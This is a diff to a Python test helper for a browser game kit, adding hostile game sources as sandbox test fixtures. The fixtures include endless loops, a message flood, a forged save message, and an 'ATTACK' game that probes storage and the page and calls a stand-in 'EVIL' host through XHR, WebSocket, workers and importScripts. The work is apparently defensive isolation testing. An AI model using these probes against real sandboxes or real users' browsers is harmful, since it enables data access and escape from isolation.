@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from base64 import b32encode
 from pathlib import Path
 from typing import Any
 
@@ -11,10 +12,92 @@ EXAMPLES = Path(__file__).parents[2] / "py/cairn/kit/examples"
 TICTACTOE = (EXAMPLES / "tictactoe.py").read_text("utf-8")
 
 
-def kept_source(source: str, origin: str = "Ada", name: str = "") -> dict[str, Any]:
-    """The entry of a source; of one that does not even load under a name that is given."""
-    entry = {"id": identity(source), "source": source, "kit": 1, "origin": origin, "base": "", "made": 1, "saved": 1}
-    if name:
-        return entry | {"name": name, "title": "Try", "by": ""}
+def kept_source(source: str, origin: str = "Ada", title: str = "") -> dict[str, Any]:
+    """The entry of a source; one that cannot be loaded here is named by its digest as the page would, under a title."""
+    sha = identity(source)
+    entry = {"id": sha, "source": source, "kit": 1, "origin": origin, "base": "", "made": 1, "saved": 1}
+    if title:
+        ending = b32encode(bytes.fromhex(sha)).decode()[:26].lower()
+        return entry | {"name": f"{title.lower()}~{ending}", "title": title, "by": ""}
     game = load_game(source)
-    return entry | {"name": game.name, "title": game.title, "by": game.designers}
+    return entry | {"name": game.name, "title": game.title, "by": str(game.designers)}
+
+
+HEAD = '"""Try, by Somebody. Be first."""\nfrom cairn.kit import *\nboard = squares(3)\n'
+PLACE = '@rule\ndef place(p):\n    """Place on an empty cell."""\n    yield from p.empty\n'
+HANGS = {
+    "a loop": "    while len(p.empty) < 9:\n        pass\n",
+    "a call": "    if len(p.empty) < 9:\n        sum(iter(int, 1))\n",
+}
+"""What does not come to an end after the first move: in Python's own steps, and in one step of C."""
+FLOOD = "    if len(p.empty) < 9:\n        for n in range(5000):\n            __import__('js').postMessage('[]')\n"
+BIG = "    if len(p.empty) < 9:\n        __import__('js').postMessage('[' + ' ' * 20_000_000 + ']')\n"
+FORGED = (
+    '    if len(p.empty) < 9:\n        __import__(\'js\').postMessage(\'[{"kind":"save","id":"other","text":'
+    '"{}","summary":{},"computer":{},"tree":""}]\')\n'
+)
+
+ATTACK = '''"""Attack, by Nobody. Reach anything outside."""
+from cairn.kit import *
+board = squares(3)
+js = __import__("js")
+create_proxy = __import__("pyodide.ffi").ffi.create_proxy
+to_js = __import__("pyodide.ffi").ffi.to_js
+tried, opened = {}, []
+
+def note(name, is_open):
+    tried[name] = is_open
+    if is_open:
+        opened.append(name)
+
+def attempt(name, function):
+    tried[name] = None
+    try:
+        found = function()
+    except BaseException:
+        note(name, False)
+        return
+    if hasattr(found, "then"):
+        found.then(create_proxy(lambda _: note(name, True)), create_proxy(lambda _: note(name, False)))
+    elif hasattr(found, "onerror"):
+        found.onerror = create_proxy(lambda _: note(name, False))
+        for event in ("onopen", "onsuccess", "onmessage"):
+            setattr(found, event, create_proxy(lambda _: note(name, True)))
+    else:
+        note(name, True)
+
+def request(how):
+    asked = js.XMLHttpRequest.new()
+    asked.open("GET", how, False)
+    asked.send()
+
+def blob(text):
+    return js.URL.createObjectURL(js.Blob.new(to_js([text])))
+
+attempt("saves", lambda: js.indexedDB.open("cairn"))
+attempt("local storage", lambda: js.localStorage.getItem("secret"))
+attempt("files", lambda: js.navigator.storage.getDirectory())
+attempt("the page", lambda: js.document.title)
+attempt("its window", lambda: js.top.location.href)
+attempt("the site", lambda: js.Object.getPrototypeOf(js.self).constructor.fetch("SITE/"))
+attempt("a request", lambda: request("EVIL/xhr"))
+attempt("a socket", lambda: js.WebSocket.new("EVIL/socket".replace("http", "ws")))
+attempt("a stream", lambda: js.EventSource.new("EVIL/stream"))
+attempt("a font", lambda: js.FontFace.new("f", "url(EVIL/font)").load())
+attempt("a script", lambda: js.importScripts("EVIL/script"))
+attempt("a worker", lambda: js.Worker.new("EVIL/worker"))
+attempt("a worker of the site", lambda: js.Worker.new("SITE/sw.js"))
+attempt("text as code", lambda: js.eval("1"))
+attempt("a connection", lambda: js.RTCPeerConnection.new())
+nested = "fetch('EVIL/nested').then(() => postMessage(1), () => {})"
+attempt("a worker of a worker", lambda: js.Worker.new(blob(nested)))
+
+def why(p, *path):
+    waiting = [name for name in tried if tried[name] is None]
+    return f"{len(tried)} tried, waiting for {waiting}, open {opened}."
+
+@rule
+def place(p):
+    """Place on the first cell."""
+    yield "a1"
+'''
